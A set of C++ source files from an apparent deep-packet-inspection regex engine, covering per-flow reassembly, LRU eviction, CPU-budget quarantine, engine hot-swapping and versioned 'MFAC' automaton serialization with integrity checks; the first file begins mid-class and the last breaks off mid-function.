            batch_lanes_);
      }
    } else {
      for (std::size_t i = 0; i < count; ++i)
        engine_for(*batch_job_flows_[i])
            .feed(*jobs[i].ctx, jobs[i].data, jobs[i].size, jobs[i].base,
                  [&](std::uint32_t id, std::uint64_t end) { lane_sink(i, id, end); });
    }
  }

  FlowState& flow(const FlowKey& key) {
    auto it = flows_.find(key);
    if (it != flows_.end()) {
      lru_touch(&it->second);
      if (it->second.context_generation != current_generation_) adopt_flow(it->second);
      return it->second;
    }
    if (max_flows_ != 0 && flows_.size() >= max_flows_) evict_oldest();
    util::fault_maybe_bad_alloc("flow.table.alloc");
    it = flows_.emplace(key, FlowState{engine_->make_context()}).first;
    it->second.key = key;  // node addresses are stable in unordered_map
    it->second.context_generation = current_generation_;
    lru_push_back(&it->second);
    return it->second;
  }

  // --- engine-generation bookkeeping (cold unless adopt_engine was used) ---

  /// A previous engine generation still referenced by live flow contexts.
  struct Retired {
    std::uint64_t generation = 0;
    const EngineT* engine = nullptr;
    std::shared_ptr<const void> pin;  ///< keeps the engine's owner alive
    std::size_t live_flows = 0;
    bool drain = false;  ///< SwapPolicy::kDrainOld
  };

  [[nodiscard]] const Retired* find_retired(std::uint64_t generation) const {
    for (const auto& r : retired_)
      if (r.generation == generation) return &r;
    return nullptr;
  }

  [[nodiscard]] const EngineT& engine_for_generation(std::uint64_t generation) const {
    if (generation == current_generation_) return *engine_;
    const Retired* r = find_retired(generation);
    return r != nullptr ? *r->engine : *engine_;
  }

  [[nodiscard]] const EngineT& engine_for(const FlowState& fs) const {
    return engine_for_generation(fs.context_generation);
  }

  /// A flow tagged with an older generation took a packet: under kDrainOld
  /// it stays on its engine; under kResetOnNextPacket its (q, m) restarts
  /// on the current engine — stream position and pending segments are kept,
  /// so the byte stream continues seamlessly under the new rules.
  void adopt_flow(FlowState& fs) {
    const Retired* r = find_retired(fs.context_generation);
    if (r != nullptr && r->drain) return;
    const std::uint64_t old_generation = fs.context_generation;
    fs.ctx = engine_->make_context();
    fs.context_generation = current_generation_;
    fs.scan_ticks = 0;  // fresh context, fresh CPU-budget account
    release_generation(old_generation);
  }

  /// `fs` is leaving the table (evict/quarantine/LRU): drop its claim on a
  /// retired generation, releasing the pin when the last claim goes.
  void release_flow(const FlowState& fs) {
    if (fs.context_generation != current_generation_)
      release_generation(fs.context_generation);
  }

  void release_generation(std::uint64_t generation) {
    for (std::size_t i = 0; i < retired_.size(); ++i) {
      if (retired_[i].generation != generation) continue;
      if (--retired_[i].live_flows == 0) retired_.erase(retired_.begin() + i);
      return;
    }
  }

  /// CPU-budget enforcement: evict an over-budget flow and remember its key
  /// so later packets are dropped at the door. The memory is bounded
  /// (oldest quarantine forgotten first) so hostile many-flow traffic
  /// cannot grow it without limit.
  void maybe_quarantine(FlowState& fs) {
    if (budget_ticks_ == 0 || fs.scan_ticks < budget_ticks_) return;
    ++flows_quarantined_;
    if (registry_ != nullptr) {
      metrics_->flows_quarantined.fetch_add(1, std::memory_order_relaxed);
      registry_->trace().record(fs.key.src_ip, fs.key.dst_ip, fs.key.src_port,
                                fs.key.dst_port, fs.key.proto,
                                obs::kFlowQuarantinedEventId, fs.next_offset,
                                util::rdtsc_now());
    }
    static constexpr std::size_t kMaxQuarantineRemembered = 65536;
    if (quarantine_order_.size() >= kMaxQuarantineRemembered) {
      quarantined_.erase(quarantine_order_.front());
      quarantine_order_.pop_front();
    }
    quarantined_.insert(fs.key);
    quarantine_order_.push_back(fs.key);
    release_flow(fs);
    total_pending_ -= fs.pending_bytes;
    lru_unlink(&fs);
    flows_.erase(fs.key);
  }

  // --- intrusive LRU list: head = least recently active, tail = most ---

  void lru_push_back(FlowState* fs) {
    fs->lru_prev = lru_tail_;
    fs->lru_next = nullptr;
    if (lru_tail_ != nullptr) lru_tail_->lru_next = fs;
    lru_tail_ = fs;
    if (lru_head_ == nullptr) lru_head_ = fs;
  }

  void lru_unlink(FlowState* fs) {
    if (fs->lru_prev != nullptr) fs->lru_prev->lru_next = fs->lru_next;
    if (fs->lru_next != nullptr) fs->lru_next->lru_prev = fs->lru_prev;
    if (lru_head_ == fs) lru_head_ = fs->lru_next;
    if (lru_tail_ == fs) lru_tail_ = fs->lru_prev;
    fs->lru_prev = nullptr;
    fs->lru_next = nullptr;
  }

  void lru_touch(FlowState* fs) {
    if (lru_tail_ == fs) return;
    lru_unlink(fs);
    lru_push_back(fs);
  }

  void evict_oldest() {
    FlowState* victim = lru_head_;
    if (victim == nullptr) return;
    release_flow(*victim);
    total_pending_ -= victim->pending_bytes;
    lru_unlink(victim);
    flows_.erase(victim->key);
    ++evicted_;
  }

  // --- bounded out-of-order reassembly ---

  void buffer_segment(FlowState& fs, const Packet& p) {
    if (p.length == 0) return;
    // Reassembly buffering is the allocation-heavy path hostile traffic can
    // drive at will; the fault point lets the soak test prove a bad_alloc
    // here surfaces as a crashed-and-restarted worker, never a hang.
    util::fault_maybe_bad_alloc("flow.reassembly.alloc");
    auto it = pending_lower_bound(fs.pending, p.seq);
    if (it != fs.pending.end() && it->seq == p.seq) {
      // Duplicate sequence number: keep whichever segment carries more
      // data. Only the *net growth* counts against the budget — a replaced
      // segment's bytes leave the buffer, so charging the full incoming
      // length would spuriously evict unrelated segments on retransmits.
      if (it->bytes.size() >= p.length) return;
      const std::uint64_t growth = p.length - it->bytes.size();
      while (max_pending_ != 0 && fs.pending_bytes + growth > max_pending_ &&
             fs.pending.size() > 1) {
        drop_oldest_pending(fs, p.seq);
        it = pending_lower_bound(fs.pending, p.seq);  // drops shift the vector
      }
      if (max_pending_ != 0 && fs.pending_bytes + growth > max_pending_) {
        // Even alone the replacement exceeds the budget: keep the smaller
        // buffered segment and count the oversized replacement as dropped.
        ++reassembly_dropped_;
        return;
      }
      it->bytes.assign(p.payload, p.payload + p.length);
      it->arrival = ++arrival_tick_;
      fs.pending_bytes += growth;
      total_pending_ += growth;
      return;
    }
    if (max_pending_ != 0 && p.length > max_pending_) {
      // A single segment larger than the whole budget can never be held.
      ++reassembly_dropped_;
      return;
    }
    while (max_pending_ != 0 && fs.pending_bytes + p.length > max_pending_) {
      drop_oldest_pending(fs);
      it = pending_lower_bound(fs.pending, p.seq);
    }
    it = fs.pending.emplace(it, PendingSegment{p.seq, ++arrival_tick_, {}});
    it->bytes.assign(p.payload, p.payload + p.length);
    fs.pending_bytes += p.length;
    total_pending_ += p.length;
  }

  /// Drop the oldest-arrival pending segment, optionally sparing the one at
  /// `keep_seq` (the segment a duplicate replacement is about to grow in
  /// place). Erasing shifts the vector, so callers re-derive iterators.
  void drop_oldest_pending(FlowState& fs, std::uint64_t keep_seq = ~std::uint64_t{0}) {
    auto oldest = fs.pending.end();
    for (auto it = fs.pending.begin(); it != fs.pending.end(); ++it) {
      if (it->seq == keep_seq) continue;
      if (oldest == fs.pending.end() || it->arrival < oldest->arrival) oldest = it;
    }
    if (oldest == fs.pending.end()) return;
    fs.pending_bytes -= oldest->bytes.size();
    total_pending_ -= oldest->bytes.size();
    fs.pending.erase(oldest);
    ++reassembly_dropped_;
  }

  template <typename Sink>
  void drain(FlowState& fs, Sink&& sink) {
    std::size_t consumed = 0;
    while (consumed < fs.pending.size()) {
      PendingSegment& seg = fs.pending[consumed];
      if (seg.seq > fs.next_offset) break;
      const std::uint64_t skip = fs.next_offset - seg.seq;
      if (skip < seg.bytes.size()) {
        feed_or_skip(engine_for(fs), fs, seg.bytes.data() + skip,
                     seg.bytes.size() - skip, fs.next_offset, sink);
        fs.next_offset += seg.bytes.size() - skip;
      }
      fs.pending_bytes -= seg.bytes.size();
      total_pending_ -= seg.bytes.size();
      ++consumed;
    }
    if (consumed != 0)
      fs.pending.erase(fs.pending.begin(),
                       fs.pending.begin() + static_cast<std::ptrdiff_t>(consumed));
  }

  const EngineT* engine_;  ///< ONE engine for all flows (never per-flow)
  std::uint64_t current_generation_ = 0;
  bool generation_active_ = false;  ///< adopt_engine() was called at least once
  std::shared_ptr<const void> current_pin_;  ///< keeps engine_'s owner alive
  std::vector<Retired> retired_;  ///< old generations with live flow contexts
  std::size_t max_flows_ = 0;
  std::size_t max_pending_ = kDefaultMaxPendingBytes;
  std::uint64_t evicted_ = 0;
  std::uint64_t reassembly_dropped_ = 0;
  std::uint64_t total_pending_ = 0;  ///< buffered OOO bytes across all flows
  std::uint64_t arrival_tick_ = 0;
  std::uint64_t cpu_budget_ns_ = 0;   ///< 0 = per-flow CPU budget disabled
  std::uint64_t budget_ticks_ = 0;    ///< cpu_budget_ns_ in TSC ticks
  std::uint64_t flows_quarantined_ = 0;
  std::uint64_t quarantined_packets_ = 0;
  std::uint64_t prefilter_skips_ = 0;   ///< gated chunks, scan avoided
  std::uint64_t prefilter_passes_ = 0;  ///< gate-eligible chunks scanned
  bool prefilter_on_ = true;            ///< set_prefilter() runtime switch
  ScanMode mode_ = ScanMode::kFull;     ///< degradation-ladder rung (§14)
  std::uint64_t sample_mask_ = 7;       ///< L1: 1-in-(mask+1) flows exact
  std::uint64_t degraded_hits_ = 0;     ///< L2 probe-positive detections
  std::unordered_set<FlowKey, FlowKeyHash> quarantined_;
  std::deque<FlowKey> quarantine_order_;  ///< FIFO aging of quarantined_
  obs::MetricsRegistry* registry_ = nullptr;  ///< telemetry root (optional)
  obs::ShardMetrics* metrics_ = nullptr;      ///< this inspector's shard slot
  double ns_per_tick_ = 0.0;
  obs::Profiler* profiler_ = nullptr;  ///< sampled cost profiler (optional)
  std::uint64_t profile_mask_ = 0;     ///< profiler_->sample_mask(), cached
  std::uint64_t profile_tick_ = 0;     ///< scan units since attach
  std::vector<std::uint32_t> profile_ids_;  ///< sampled unit's match ids
  std::size_t batch_lanes_ = scan::kDefaultLanes;
  std::uint64_t batch_wave_ = 0;
  // Scratch reused across packet_batch() calls (inspector is one-thread).
  std::vector<scan::FeedJob<Context>> batch_jobs_;
  std::vector<FlowState*> batch_job_flows_;
  std::vector<std::uint32_t> batch_cur_;
  std::vector<std::uint32_t> batch_deferred_;
  // Scratch for the (transient) mixed-generation burst path in feed_jobs.
  std::vector<scan::FeedJob<Context>> mixed_jobs_;
  std::vector<std::size_t> mixed_index_;
  std::vector<char> mixed_done_;
  FlowState* lru_head_ = nullptr;  ///< least recently active
  FlowState* lru_tail_ = nullptr;  ///< most recently active
  std::unordered_map<FlowKey, FlowState, FlowKeyHash> flows_;
};

}  // namespace mfa::flow
