// Flow substrate: packets, 5-tuple flow keys, and a multiplexing inspector.
//
// Paper Sec. III-B: "To handle many flows arriving in multiplexed fashion,
// all that is necessary is to keep a (q, m) pair for each flow". The
// FlowInspector below is that mechanism, generic over any scanner engine:
// it keeps one scanner context per flow, restores it when a packet of that
// flow arrives, and performs in-order reassembly (buffering out-of-order
// segments) so engines always see a contiguous byte stream.
#pragma once

#include <cstdint>
#include <functional>
#include <map>
#include <unordered_map>
#include <vector>

namespace mfa::flow {

struct FlowKey {
  std::uint32_t src_ip = 0;
  std::uint32_t dst_ip = 0;
  std::uint16_t src_port = 0;
  std::uint16_t dst_port = 0;
  std::uint8_t proto = 6;  // TCP by default

  friend bool operator==(const FlowKey&, const FlowKey&) = default;
};

struct FlowKeyHash {
  std::size_t operator()(const FlowKey& k) const {
    std::uint64_t h = 0xcbf29ce484222325ULL;
    const auto mix = [&h](std::uint64_t v) {
      h ^= v;
      h *= 0x100000001b3ULL;
    };
    mix(k.src_ip);
    mix(k.dst_ip);
    mix((std::uint64_t{k.src_port} << 32) | (std::uint64_t{k.dst_port} << 16) | k.proto);
    return static_cast<std::size_t>(h);
  }
};

/// One packet's payload, referencing bytes owned by a Trace.
struct Packet {
  FlowKey key;
  std::uint64_t seq = 0;  ///< byte offset of payload[0] within the flow
  const std::uint8_t* payload = nullptr;
  std::uint32_t length = 0;
};

/// Multiplexing inspector: per-flow scanner contexts + in-order reassembly.
/// ScannerT must be copy-constructible (the per-flow context) and provide
/// feed(data, size, base_offset, sink).
///
/// `max_flows` bounds the flow table (0 = unbounded): when a new flow would
/// exceed it, the least-recently-active flow's context is evicted — the
/// standard DPI memory-bound strategy, and the reason small per-flow
/// contexts matter (paper Sec. III-A).
template <typename ScannerT>
class FlowInspector {
 public:
  explicit FlowInspector(ScannerT prototype, std::size_t max_flows = 0)
      : prototype_(std::move(prototype)), max_flows_(max_flows) {}

  /// Deliver one packet. sink(match_id, flow_offset) fires for confirmed
  /// matches; positions are byte offsets within the flow's stream.
  template <typename Sink>
  void packet(const Packet& p, Sink&& sink) {
    FlowState& fs = flow(p.key);
    if (p.seq > fs.next_offset) {
      // Out of order: hold the segment until the gap fills.
      fs.pending.emplace(p.seq, std::vector<std::uint8_t>(p.payload, p.payload + p.length));
      return;
    }
    // Possibly-overlapping retransmission: skip already-delivered bytes.
    std::uint64_t skip = fs.next_offset - p.seq;
    if (skip < p.length) {
      fs.scanner.feed(p.payload + skip, p.length - skip, fs.next_offset, sink);
      fs.next_offset += p.length - skip;
    }
    drain(fs, sink);
  }

  /// Number of flows currently tracked.
  [[nodiscard]] std::size_t flow_count() const { return flows_.size(); }

  /// Flows evicted to honour max_flows.
  [[nodiscard]] std::uint64_t evicted_count() const { return evicted_; }

  /// Drop a finished flow's context.
  void evict(const FlowKey& key) { flows_.erase(key); }

  void clear() { flows_.clear(); }

 private:
  struct FlowState {
    explicit FlowState(const ScannerT& prototype) : scanner(prototype) {}
    ScannerT scanner;
    std::uint64_t next_offset = 0;
    std::map<std::uint64_t, std::vector<std::uint8_t>> pending;
    std::uint64_t last_touch = 0;
  };

  FlowState& flow(const FlowKey& key) {
    auto it = flows_.find(key);
    if (it == flows_.end()) {
      if (max_flows_ != 0 && flows_.size() >= max_flows_) evict_oldest();
      it = flows_.emplace(key, FlowState(prototype_)).first;
    }
    it->second.last_touch = ++tick_;
    return it->second;
  }

  void evict_oldest() {
    auto oldest = flows_.begin();
    for (auto it = flows_.begin(); it != flows_.end(); ++it) {
      if (it->second.last_touch < oldest->second.last_touch) oldest = it;
    }
    if (oldest != flows_.end()) {
      flows_.erase(oldest);
      ++evicted_;
    }
  }

  template <typename Sink>
  void drain(FlowState& fs, Sink&& sink) {
    while (!fs.pending.empty()) {
      auto it = fs.pending.begin();
      if (it->first > fs.next_offset) break;
      const std::uint64_t skip = fs.next_offset - it->first;
      const auto& bytes = it->second;
      if (skip < bytes.size()) {
        fs.scanner.feed(bytes.data() + skip, bytes.size() - skip, fs.next_offset, sink);
        fs.next_offset += bytes.size() - skip;
      }
      fs.pending.erase(it);
    }
  }

  ScannerT prototype_;
  std::size_t max_flows_ = 0;
  std::uint64_t tick_ = 0;
  std::uint64_t evicted_ = 0;
  std::unordered_map<FlowKey, FlowState, FlowKeyHash> flows_;
};

}  // namespace mfa::flow
