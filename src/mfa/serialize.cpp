// Compiled-automaton persistence ("MFAC" format).
//
// A compiled MFA is exactly the artifact a deployment wants to ship to
// sensors: construction (Sec. IV) happens once on a build host; sensors
// mmap/load the table+program and start scanning. The format stores the
// character DFA, the filter program, the pre-ordered per-accept-state
// action lists, and the decomposed piece sources (for operator display).
//
// v2 additionally stores the regex::ParseOptions the sources were compiled
// under (so load() re-parses pieces in the same dialect) and a trailing
// FNV-1a digest of the whole payload; v1 files remain readable.
//
// v3 is the delta-table layout, written only for delta-mode automata: a
// table-kind byte after the parse options, a headless character DFA
// (metadata + accept geometry, zero-length transition table), and the
// D2fa section carrying the transitions. Dense automata keep writing v2 so
// their artifacts stay byte-identical across this change.
#include <cstdio>
#include <cstring>

#include "mfa/mfa.h"
#include "regex/parser.h"
#include "util/binio.h"

namespace mfa::core {

namespace {
constexpr char kMagic[4] = {'M', 'F', 'A', 'C'};
constexpr std::uint32_t kVersionV1 = 1;
constexpr std::uint32_t kVersion = 2;
constexpr std::uint32_t kVersionV3 = 3;
constexpr std::uint8_t kTableDense = 0;
constexpr std::uint8_t kTableDelta = 1;
}  // namespace

bool Mfa::save(const std::string& path) const {
  // Write to a sibling temp file and rename into place so a crash mid-save
  // (or a hot-reload load() racing a push) never observes a torn artifact;
  // rename() within a directory is atomic on POSIX.
  const std::string tmp = path + ".tmp";
  std::FILE* raw = std::fopen(tmp.c_str(), "wb");
  if (raw == nullptr) return false;
  util::BinWriter w(raw);
  w.bytes(kMagic, 4);
  w.u32(delta_ ? kVersionV3 : kVersion);
  // Parse dialect the piece sources round-trip under.
  w.u8(parse_options_.icase ? 1 : 0);
  w.u8(parse_options_.dotall ? 1 : 0);
  w.i32(parse_options_.max_counted_repeat);
  w.i32(parse_options_.max_nesting_depth);
  if (delta_) w.u8(kTableDelta);
  dfa_.serialize(w);  // headless in delta mode (table dropped at build)
  if (delta_) delta_->serialize(w);
  // Filter program: actions are a trivially-copyable struct of int32s.
  w.pod_vec(program_.actions);
  w.u32(program_.memory_bits);
  w.u32(program_.counters);
  w.u32(program_.position_slots);
  w.pod_vec(ordered_offsets_);
  w.pod_vec(ordered_ids_);
  // Piece regex sources; engine ids are their indices.
  w.u64(pieces_.size());
  for (const auto& piece : pieces_) w.str(piece.regex.source);
  // Trailing checksum over everything above (snapshot before writing it).
  w.u64(w.digest());
  bool ok = w.ok();
  if (std::fclose(raw) != 0) ok = false;
  if (ok && std::rename(tmp.c_str(), path.c_str()) != 0) ok = false;
  if (!ok) std::remove(tmp.c_str());
  return ok;
}

std::optional<Mfa> Mfa::load(const std::string& path) {
  util::FilePtr f(std::fopen(path.c_str(), "rb"));
  if (!f) return std::nullopt;
  util::BinReader r(f.get());
  char magic[4];
  r.bytes(magic, 4);
  if (!r.ok() || std::memcmp(magic, kMagic, 4) != 0) return std::nullopt;
  const std::uint32_t version = r.u32();
  if (version != kVersionV1 && version != kVersion && version != kVersionV3)
    return std::nullopt;

  Mfa mfa;
  if (version >= kVersion) {
    mfa.parse_options_.icase = r.u8() != 0;
    mfa.parse_options_.dotall = r.u8() != 0;
    mfa.parse_options_.max_counted_repeat = r.i32();
    mfa.parse_options_.max_nesting_depth = r.i32();
    if (!r.ok() || mfa.parse_options_.max_counted_repeat < 0 ||
        mfa.parse_options_.max_nesting_depth < 0)
      return std::nullopt;
  }
  std::uint8_t table_kind = kTableDense;
  if (version >= kVersionV3) {
    table_kind = r.u8();
    if (!r.ok() || (table_kind != kTableDense && table_kind != kTableDelta))
      return std::nullopt;
  }
  const bool delta = table_kind == kTableDelta;
  if (!dfa::Dfa::deserialize(r, mfa.dfa_, /*allow_empty_table=*/delta))
    return std::nullopt;
  if (delta) {
    // The dense table must actually be absent in a delta artifact — a
    // file carrying both would leave the two free to disagree.
    if (mfa.dfa_.has_table()) return std::nullopt;
    dfa::D2fa loaded;
    if (!dfa::D2fa::deserialize(r, loaded)) return std::nullopt;
    // The delta table must describe the same automaton as the headless
    // DFA metadata it travels with.
    if (loaded.state_count() != mfa.dfa_.state_count() ||
        loaded.start() != mfa.dfa_.start() ||
        loaded.column_count() != mfa.dfa_.column_count() ||
        loaded.accepting_state_count() != mfa.dfa_.accepting_state_count() ||
        loaded.max_match_id() != mfa.dfa_.max_match_id())
      return std::nullopt;
    mfa.delta_ = std::move(loaded);
  }
  mfa.program_.actions = r.pod_vec<filter::Action>();
  mfa.program_.memory_bits = r.u32();
  mfa.program_.counters = r.u32();
  mfa.program_.position_slots = r.u32();
  mfa.ordered_offsets_ = r.pod_vec<std::uint32_t>();
  mfa.ordered_ids_ = r.pod_vec<std::uint32_t>();
  const std::uint64_t piece_count = r.u64();
  if (!r.ok() || piece_count > (1u << 24)) return std::nullopt;
  for (std::uint64_t i = 0; i < piece_count; ++i) {
    const std::string source = r.str();
    if (!r.ok()) return std::nullopt;
    regex::ParseResult parsed = regex::parse(source, mfa.parse_options_);
    if (!parsed.ok()) return std::nullopt;
    mfa.pieces_.push_back(
        split::Piece{*std::move(parsed.regex), static_cast<std::uint32_t>(i)});
  }
  if (!r.ok()) return std::nullopt;
  if (version >= kVersion) {
    // Verify the trailing digest (computed over everything before it) and
    // insist the file ends there: any stomped or truncated or appended byte
    // fails deterministically instead of depending on which field it hit.
    const std::uint64_t expect = r.digest();
    if (r.u64() != expect || !r.ok()) return std::nullopt;
    if (std::fgetc(f.get()) != EOF) return std::nullopt;
  }

  // Cross-structure validation: every id the DFA can report must have an
  // action; ordered lists must mirror the DFA's accept geometry; bit and
  // counter indices must stay inside the declared memory.
  if (piece_count != mfa.program_.actions.size()) return std::nullopt;
  if (mfa.dfa_.max_match_id() >= mfa.program_.actions.size()) return std::nullopt;
  if (mfa.program_.memory_bits > filter::kMaxMemoryBits) return std::nullopt;
  if (mfa.ordered_offsets_.size() != mfa.dfa_.accepting_state_count() + 1u)
    return std::nullopt;
  if (!mfa.ordered_offsets_.empty() &&
      (mfa.ordered_offsets_.front() != 0 ||
       mfa.ordered_offsets_.back() != mfa.ordered_ids_.size()))
    return std::nullopt;
  for (std::size_t i = 1; i < mfa.ordered_offsets_.size(); ++i)
    if (mfa.ordered_offsets_[i] < mfa.ordered_offsets_[i - 1]) return std::nullopt;
  for (const std::uint32_t id : mfa.ordered_ids_)
    if (id >= mfa.program_.actions.size()) return std::nullopt;
  const auto bit_ok = [&](std::int32_t bit) {
    return bit == filter::kNone ||
           (bit >= 0 && static_cast<std::uint32_t>(bit) < std::max(1u, mfa.program_.memory_bits));
  };
  const auto ctr_ok = [&](std::int32_t c) {
    return c == filter::kNone ||
           (c >= 0 && static_cast<std::uint32_t>(c) < std::max(1u, mfa.program_.counters));
  };
  const auto slot_ok = [&](std::int32_t s) {
    return s == filter::kNone ||
           (s >= 0 && static_cast<std::uint32_t>(s) < mfa.program_.position_slots);
  };
  for (const auto& action : mfa.program_.actions) {
    if (!bit_ok(action.test) || !bit_ok(action.set) || !bit_ok(action.clear))
      return std::nullopt;
    if (!ctr_ok(action.ctr_test) || !ctr_ok(action.ctr_incr)) return std::nullopt;
    if (!slot_ok(action.set_slot) || !slot_ok(action.test_slot)) return std::nullopt;
    if (action.min_gap > 0 && (action.test == filter::kNone || action.test_slot == filter::kNone))
      return std::nullopt;
  }

  // The prefilter is derived data (Teddy masks + the DFA-verified gate):
  // rebuild it from the validated pieces exactly as build_mfa() does, so an
  // artifact round-trip scans identically to a fresh compile. The gate
  // proof walks the dense table, so in delta mode the table is expanded
  // from the delta encoding transiently and dropped again after the build —
  // steady-state memory stays at the compressed size.
  if (mfa.delta_) {
    if (!mfa.dfa_.restore_table(mfa.delta_->expand_table())) return std::nullopt;
    mfa.prefilter_ =
        simd::Prefilter::build(mfa.dfa_, mfa.pieces_, mfa.parse_options_.icase);
    mfa.dfa_.drop_table();
  } else {
    mfa.prefilter_ =
        simd::Prefilter::build(mfa.dfa_, mfa.pieces_, mfa.parse_options_.icase);
  }
  return mfa;
}

}  // namespace mfa::core
