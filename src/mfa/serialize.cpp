// Compiled-automaton persistence ("MFAC" format).
//
// A compiled MFA is exactly the artifact a deployment wants to ship to
// sensors: construction (Sec. IV) happens once on a build host; sensors
// mmap/load the table+program and start scanning. The format stores the
// character DFA, the filter program, the pre-ordered per-accept-state
// action lists, and the decomposed piece sources (for operator display).
#include <cstring>

#include "mfa/mfa.h"
#include "regex/parser.h"
#include "util/binio.h"

namespace mfa::core {

namespace {
constexpr char kMagic[4] = {'M', 'F', 'A', 'C'};
constexpr std::uint32_t kVersion = 1;
}  // namespace

bool Mfa::save(const std::string& path) const {
  util::FilePtr f(std::fopen(path.c_str(), "wb"));
  if (!f) return false;
  util::BinWriter w(f.get());
  w.bytes(kMagic, 4);
  w.u32(kVersion);
  dfa_.serialize(w);
  // Filter program: actions are a trivially-copyable struct of int32s.
  w.pod_vec(program_.actions);
  w.u32(program_.memory_bits);
  w.u32(program_.counters);
  w.u32(program_.position_slots);
  w.pod_vec(ordered_offsets_);
  w.pod_vec(ordered_ids_);
  // Piece regex sources; engine ids are their indices.
  w.u64(pieces_.size());
  for (const auto& piece : pieces_) w.str(piece.regex.source);
  return w.ok();
}

std::optional<Mfa> Mfa::load(const std::string& path) {
  util::FilePtr f(std::fopen(path.c_str(), "rb"));
  if (!f) return std::nullopt;
  util::BinReader r(f.get());
  char magic[4];
  r.bytes(magic, 4);
  if (!r.ok() || std::memcmp(magic, kMagic, 4) != 0) return std::nullopt;
  if (r.u32() != kVersion) return std::nullopt;

  Mfa mfa;
  if (!dfa::Dfa::deserialize(r, mfa.dfa_)) return std::nullopt;
  mfa.program_.actions = r.pod_vec<filter::Action>();
  mfa.program_.memory_bits = r.u32();
  mfa.program_.counters = r.u32();
  mfa.program_.position_slots = r.u32();
  mfa.ordered_offsets_ = r.pod_vec<std::uint32_t>();
  mfa.ordered_ids_ = r.pod_vec<std::uint32_t>();
  const std::uint64_t piece_count = r.u64();
  if (!r.ok() || piece_count > (1u << 24)) return std::nullopt;
  for (std::uint64_t i = 0; i < piece_count; ++i) {
    const std::string source = r.str();
    if (!r.ok()) return std::nullopt;
    regex::ParseResult parsed = regex::parse(source);
    if (!parsed.ok()) return std::nullopt;
    mfa.pieces_.push_back(
        split::Piece{*std::move(parsed.regex), static_cast<std::uint32_t>(i)});
  }
  if (!r.ok()) return std::nullopt;

  // Cross-structure validation: every id the DFA can report must have an
  // action; ordered lists must mirror the DFA's accept geometry; bit and
  // counter indices must stay inside the declared memory.
  if (piece_count != mfa.program_.actions.size()) return std::nullopt;
  if (mfa.dfa_.max_match_id() >= mfa.program_.actions.size()) return std::nullopt;
  if (mfa.program_.memory_bits > 256) return std::nullopt;
  if (mfa.ordered_offsets_.size() != mfa.dfa_.accepting_state_count() + 1u)
    return std::nullopt;
  if (!mfa.ordered_offsets_.empty() &&
      (mfa.ordered_offsets_.front() != 0 ||
       mfa.ordered_offsets_.back() != mfa.ordered_ids_.size()))
    return std::nullopt;
  for (std::size_t i = 1; i < mfa.ordered_offsets_.size(); ++i)
    if (mfa.ordered_offsets_[i] < mfa.ordered_offsets_[i - 1]) return std::nullopt;
  for (const std::uint32_t id : mfa.ordered_ids_)
    if (id >= mfa.program_.actions.size()) return std::nullopt;
  const auto bit_ok = [&](std::int32_t bit) {
    return bit == filter::kNone ||
           (bit >= 0 && static_cast<std::uint32_t>(bit) < std::max(1u, mfa.program_.memory_bits));
  };
  const auto ctr_ok = [&](std::int32_t c) {
    return c == filter::kNone ||
           (c >= 0 && static_cast<std::uint32_t>(c) < std::max(1u, mfa.program_.counters));
  };
  const auto slot_ok = [&](std::int32_t s) {
    return s == filter::kNone ||
           (s >= 0 && static_cast<std::uint32_t>(s) < mfa.program_.position_slots);
  };
  for (const auto& action : mfa.program_.actions) {
    if (!bit_ok(action.test) || !bit_ok(action.set) || !bit_ok(action.clear))
      return std::nullopt;
    if (!ctr_ok(action.ctr_test) || !ctr_ok(action.ctr_incr)) return std::nullopt;
    if (!slot_ok(action.set_slot) || !slot_ok(action.test_slot)) return std::nullopt;
    if (action.min_gap > 0 && (action.test == filter::kNone || action.test_slot == filter::kNone))
      return std::nullopt;
  }
  return mfa;
}

}  // namespace mfa::core
