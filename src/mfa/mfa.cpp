#include "mfa/mfa.h"

#include <algorithm>

#include "util/timing.h"

namespace mfa::core {

std::optional<Mfa> build_mfa(const std::vector<nfa::PatternInput>& patterns,
                             const BuildOptions& options, BuildStats* stats) {
  util::WallTimer timer;
  BuildStats local;
  BuildStats& st = stats != nullptr ? *stats : local;

  // 1. Regex splitting (Algorithm 1).
  split::SplitResult sr = split_patterns(patterns, options.split);
  st.split = sr.stats;

  // Reject programs whose geometry exceeds the per-flow Memory (e.g. more
  // guard bits than kMaxMemoryBits) before paying for DFA construction; a
  // silently-truncated filter would alias bits and corrupt match results.
  if (!sr.program.validate()) {
    st.seconds = timer.seconds();
    return std::nullopt;
  }

  // 2. Standard NFA + DFA construction over the decomposed pieces, with
  //    piece engine-ids as the DFA's match ids.
  std::vector<nfa::PatternInput> piece_inputs;
  piece_inputs.reserve(sr.pieces.size());
  for (const auto& piece : sr.pieces)
    piece_inputs.push_back(nfa::PatternInput{piece.regex, piece.engine_id});
  const nfa::Nfa piece_nfa = nfa::build_nfa(piece_inputs);
  std::optional<dfa::Dfa> d = dfa::build_dfa(piece_nfa, options.dfa, &st.dfa);
  if (!d.has_value()) {
    st.seconds = timer.seconds();
    return std::nullopt;
  }

  Mfa mfa;
  mfa.dfa_ = *std::move(d);
  mfa.program_ = std::move(sr.program);
  mfa.pieces_ = std::move(sr.pieces);
  mfa.parse_options_ = options.parse;

  // 3. Pre-resolve per-accept-state action order: stable-sort each accept
  //    set by filter phase so one pass over ordered_actions() executes the
  //    same-position semantics (clears, tests/reports, sets).
  const std::uint32_t naccept = mfa.dfa_.accepting_state_count();
  mfa.ordered_offsets_.assign(naccept + 1, 0);
  for (std::uint32_t s = 0; s < naccept; ++s) {
    const auto [first, last] = mfa.dfa_.accepts(s);
    mfa.ordered_offsets_[s + 1] =
        mfa.ordered_offsets_[s] + static_cast<std::uint32_t>(last - first);
  }
  mfa.ordered_ids_.resize(mfa.ordered_offsets_[naccept]);
  for (std::uint32_t s = 0; s < naccept; ++s) {
    const auto [first, last] = mfa.dfa_.accepts(s);
    auto* out = mfa.ordered_ids_.data() + mfa.ordered_offsets_[s];
    std::copy(first, last, out);
    std::sort(out, out + (last - first),
              filter::ActionOrderLess{&mfa.program_.actions});
  }

  // 4. Compile the literal prefilter (Teddy masks + DFA-verified skip
  //    gate). Purely derived from (dfa, pieces, parse options): load()
  //    rebuilds it the same way, so MFAC artifacts need no new fields.
  //    Must happen before delta compression — the gate proof walks the
  //    dense table.
  mfa.prefilter_ =
      simd::Prefilter::build(mfa.dfa_, mfa.pieces_, mfa.parse_options_.icase);

  // 5. Delta mode: compress the dense table into default-transition chains
  //    with delta-encoded exceptions, then drop the dense table — at
  //    Snort-ruleset scale the table is nearly the whole memory image.
  if (options.delta) {
